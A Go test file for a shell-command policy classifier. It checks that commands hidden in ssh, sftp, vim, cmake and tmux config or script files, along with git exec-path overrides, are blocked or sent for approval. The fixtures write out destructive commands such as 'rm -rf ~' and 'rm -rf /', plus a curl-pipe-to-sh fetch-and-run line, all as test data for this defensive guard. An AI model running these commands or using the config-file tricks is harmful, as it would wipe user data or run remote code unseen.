package shellpolicy

import (
	"os"
	"path/filepath"
	"testing"
)

// configFilesEnv is testEnv with its workspace and home in a temporary
// directory holding files, each name relative to it; it returns the env and
// the workspace.
func configFilesEnv(t *testing.T, files map[string]string) (*Env, string) {
	t.Helper()
	root := t.TempDir()
	env := testEnv()
	env.Home = filepath.Join(root, "home")
	env.Workspace = filepath.Join(root, "home", "proj")
	for name, text := range files {
		p := filepath.Join(env.Home, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(env.Workspace, 0o755); err != nil {
		t.Fatal(err)
	}
	return env, env.Workspace
}

// ssh -F FILE (scp -F, sftp -F) reads a configuration whose ProxyCommand,
// LocalCommand, KnownHostsCommand and Match exec run commands here, and
// whose Include reads more such files (relative to ~/.ssh): a file this
// command line wrote is judged in full, one on disk carries a hard block
// over, one the classifier cannot see needs explicit approval. An ordinary
// configuration keeps today's verdict.
func TestSSHConfigFileCommandsAreJudged(t *testing.T) {
	t.Parallel()
	env, ws := configFilesEnv(t, map[string]string{
		".ssh/config":       "Host *\n  ServerAliveInterval 30\n  ProxyCommand ssh -W %h:%p bastion\n",
		".ssh/evil":         "Host x\n\tProxyCommand=rm -rf ~\n",
		".ssh/inc":          "Include evil\n",
		"proj/ssh_match":    "Match host x exec \"rm -rf ~\"\n",
		"proj/ssh_ordinary": "Host x\n  LocalCommand echo hi\n  PermitLocalCommand yes\n",
	})
	checkClassesIn(t, env, ws, []classCase{
		{"printf 'Host x\\n  ProxyCommand rm -rf ~\\n' > c; ssh -F c x", Blocked, "filesystem root"},
		{"printf 'PermitLocalCommand yes\\nLocalCommand rm -rf ~\\n' > c; ssh -F c x", Blocked, "filesystem root"},
		{"echo 'KnownHostsCommand rm -rf ~' > c; ssh -F c x", Blocked, "filesystem root"},
		{`echo 'Match exec "rm -rf ~"' > c; ssh -F c x`, Blocked, "filesystem root"},
		{`echo 'Match !exec="rm -rf ~"' > c; ssh -F c x`, Blocked, "filesystem root"},
		{"echo 'ProxyCommand rm -rf ~' > c; scp -F c a x:b", Blocked, "filesystem root"},
		{"echo 'ProxyCommand rm -rf ~' > c; sftp -Fc x", Blocked, "filesystem root"},
		{"echo 'ProxyCommand curl -s x | sh' > c; ssh -F c x", Blocked, ""},
		{"echo 'Include inc' > c; ssh -F c x", Blocked, "filesystem root"},
		{"echo 'Include ~/.ssh/*' > c; ssh -F c x", Explicit, "cannot see"},
		{"echo 'ProxyCommand nc %h %p' > c; ssh -F c x", Ordinary, ""},
		{"python3 gen.py > c; ssh -F c x", Explicit, "cannot see"},
		{`ssh -F "$CFG" x`, Explicit, "cannot see"},
		{"ssh -F ~/.ssh/evil x", Blocked, "filesystem root"},
		{"ssh -F ssh_match x", Blocked, "filesystem root"},
		{"ssh -F ~/.ssh/inc x", Blocked, "filesystem root"},
		{"ssh -F ~/.ssh/config x", Ordinary, ""},
		{"ssh -F ssh_ordinary x", Ordinary, ""},
		{"ssh -F none x", Ordinary, ""},
		{"ssh -F missing x", Ordinary, ""},
	})
}

// sftp -b FILE runs a batch whose "!CMD" lines (after the - and @
// prefixes) run CMD with the local shell; -b - reads the batch from stdin.
func TestSFTPBatchShellEscapesAreJudged(t *testing.T) {
	t.Parallel()
	env, ws := configFilesEnv(t, map[string]string{
		"proj/evil.batch": "put a\n-!rm -rf /\n",
		"proj/ok.batch":   "put a\nget b\n!echo done\n",
	})
	checkClassesIn(t, env, ws, []classCase{
		{"printf 'put a\\n!rm -rf ~\\n' > b; sftp -b b x", Blocked, "filesystem root"},
		{"sftp -b - x <<< '@!rm -rf ~'", Blocked, "filesystem root"},
		{"sftp -b evil.batch x", Blocked, "filesystem root"},
		{`sftp -b "$B" x`, Explicit, "cannot see"},
		{"sftp -b ok.batch x", Ordinary, ""},
		{"printf 'put a\\n' > b; sftp -b b x", Ordinary, ""},
	})
}

// vim -S FILE (Session.vim alone) and -u VIMRC source Ex commands, vim -s
// FILE types keys: their shell commands (!CMD, :!CMD, call system(…), a
// !!CMD filter) are judged as make judges a makefile's.
func TestVimScriptFilesAreJudged(t *testing.T) {
	t.Parallel()
	env, ws := configFilesEnv(t, map[string]string{
		"proj/evil.vim":    "set number\nsilent !rm -rf ~\n",
		"proj/Session.vim": "let x = system('rm -rf ~')\n",
		"proj/ok.vim":      "\" settings\nset number\nsyntax on\n",
	})
	checkClassesIn(t, env, ws, []classCase{
		{"echo '!rm -rf ~' > s.vim; vim -S s.vim", Blocked, "filesystem root"},
		{`echo 'call system("rm -rf ~")' > s.vim; vim -S s.vim f`, Blocked, "filesystem root"},
		{"echo ':!rm -rf ~' > k; vim -s k f", Blocked, "filesystem root"},
		{"echo 'gg!!rm -rf ~' > k; vim -s k f", Blocked, "filesystem root"},
		{"echo '!rm -rf ~' > rc; vim -u rc f", Blocked, "filesystem root"},
		{"vim -S evil.vim f", Blocked, "filesystem root"},
		{"vim f -S", Blocked, "filesystem root"},
		{`vim -S "$S" f`, Explicit, "cannot see"},
		{"make-keys > k; vim -s k f", Explicit, "cannot see"},
		{"vim -S ok.vim f", Ordinary, ""},
		{"vim -u NONE f", Ordinary, ""},
		{"echo 'set number' > s.vim; vim -S s.vim f", Ordinary, ""},
		{"echo 'ihello!' > k; vim -s k f", Ordinary, ""},
	})
}

// cmake -P FILE (and -C FILE) runs a CMake script: execute_process(COMMAND
// …) runs programs and file(REMOVE_RECURSIVE …) deletes as rm -rf does.
func TestCMakeScriptsAreJudged(t *testing.T) {
	t.Parallel()
	env, ws := configFilesEnv(t, map[string]string{
		"proj/evil.cmake": "message(STATUS \"x\")\nexecute_process(\n  COMMAND rm -rf ~\n  RESULT_VARIABLE r)\n",
		"proj/root.cmake": "# clean\nfile(REMOVE_RECURSIVE /)\n",
		"proj/ok.cmake":   "message(STATUS \"hi\")\nexecute_process(COMMAND git describe OUTPUT_VARIABLE v)\n",
	})
	checkClassesIn(t, env, ws, []classCase{
		{"echo 'execute_process(COMMAND rm -rf ~)' > x.cmake; cmake -P x.cmake", Blocked, "filesystem root"},
		{"echo 'file(REMOVE_RECURSIVE /)' > x.cmake; cmake -P x.cmake", Blocked, "filesystem root"},
		{`echo 'execute_process(COMMAND echo a COMMAND rm -rf "$ENV{HOME}")' > x.cmake; cmake -P x.cmake`, Blocked,
			"filesystem root"},
		{"cmake -P evil.cmake", Blocked, "filesystem root"},
		{"cmake -P root.cmake", Blocked, "filesystem root"},
		{"cmake -C root.cmake -S . -B build", Blocked, "filesystem root"},
		{`cmake -P "$F"`, Explicit, "cannot see"},
		{"gen > x.cmake; cmake -P x.cmake", Explicit, "cannot see"},
		{"cmake -P ok.cmake", Ordinary, ""},
		{"cmake --build build -- -C root.cmake", Ordinary, ""},
		{"cmake -E rm -rf build", Ordinary, ""},
		{"echo 'message(hi)' > x.cmake; cmake -P x.cmake", Ordinary, ""},
	})
}

// tmux source-file FILE (and tmux -f FILE) runs the tmux commands of a file,
// each line judged as a tmux command; set-option's default-command (and
// lock-command, copy-command, editor) is a command line later windows run,
// default-shell a program, a hook or command-alias tmux commands. A file
// that sources itself (bind r source-file ~/.tmux.conf) is read once.
func TestTmuxSourceFileAndCommandOptionsAreJudged(t *testing.T) {
	t.Parallel()
	env, ws := configFilesEnv(t, map[string]string{
		".tmux.conf": "# mine\nset -g mouse on\nset -g status-right '#(date +%H:%M)'\n" +
			"bind r source-file ~/.tmux.conf \\; display 'reloaded'\nset -g default-shell /bin/zsh\n",
		"proj/evil.conf": "set -g mouse on\nset -g default-command 'rm -rf ~'\n",
	})
	checkClassesIn(t, env, ws, []classCase{
		{`echo 'run-shell "rm -rf ~"' > t.conf; tmux source-file t.conf`, Blocked, "filesystem root"},
		{`echo 'if-shell true "run rm -rf ~"' > t.conf; tmux source t.conf`, Blocked, "filesystem root"},
		{`echo 'run-shell "rm -rf ~"' > t.conf; tmux -f t.conf new -d`, Blocked, "filesystem root"},
		{"tmux source-file evil.conf", Blocked, "filesystem root"},
		{"tmux set default-command 'rm -rf ~'", Blocked, "filesystem root"},
		{"tmux set-option -g default-c 'rm -rf ~'", Blocked, "filesystem root"},
		{"tmux setw -g lock-command 'rm -rf /'", Blocked, "filesystem root"},
		{`tmux set -g after-new-window 'run-shell "rm -rf ~"'`, Blocked, "filesystem root"},
		{`tmux set -s 'command-alias[10]' 'x=run-shell "rm -rf ~"'`, Blocked, "filesystem root"},
		{`tmux set -g default-shell "$SH"`, Explicit, "cannot see"},
		{`tmux source-file "$F"`, Explicit, "cannot see"},
		{`tmux source-file '~/conf.d/*.conf'`, Explicit, "cannot see"},
		{"gen > t.conf; tmux source-file t.conf", Explicit, "cannot see"},
		{`echo 'run-shell "rm -rf ~"' > t.conf; tmux source-file -n t.conf`, Ordinary, ""},
		{"tmux source-file ~/.tmux.conf", Ordinary, ""},
		{"echo 'set -g mouse on' > t.conf; tmux source-file t.conf", Ordinary, ""},
		{"tmux set -g default-shell /bin/zsh", Ordinary, ""},
		{"tmux set -g mouse on", Ordinary, ""},
		{"tmux bind r source-file ~/.tmux.conf", Ordinary, ""},
		{"tmux set-option -g default-terminal screen-256color", Ordinary, ""},
	})
}

// git --exec-path=DIR and GIT_EXEC_PATH=DIR make git take its commands
// from DIR, which runs whatever is there: explicit approval. git
// --exec-path alone prints the directory and exits; -C is as it was
// (ordinary).
func TestGitExecPathNeedsApproval(t *testing.T) {
	t.Parallel()
	checkClasses(t, []classCase{
		{"git --exec-path=/tmp/x status", Explicit, "git --exec-path=DIR"},
		{"git --exec-path=. pull", Explicit, "take its commands from"},
		{"GIT_EXEC_PATH=/tmp/x git status", Explicit, "GIT_EXEC_PATH="},
		{"export GIT_EXEC_PATH=/tmp/x; git status", Explicit, "GIT_EXEC_PATH="},
		{"git --exec-path", ReadOnly, ""},
		{"git -C sub status", Ordinary, ""},
	})
}
